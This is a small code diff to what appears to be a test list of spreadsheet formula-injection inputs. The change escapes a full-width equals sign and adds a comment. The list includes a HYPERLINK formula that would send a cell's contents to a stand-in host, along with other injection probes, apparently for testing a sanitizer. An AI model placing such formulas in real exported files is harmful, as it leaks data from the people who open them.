@@ -183,7 +183,7 @@ FORMULAS = [
     "\r=1",
     "'=1",
     "''=1",
-    "＝1",
+    "\uff1d1",  # a full-width sign
     '=HYPERLINK("http://x?"&A1)',
 ]
 
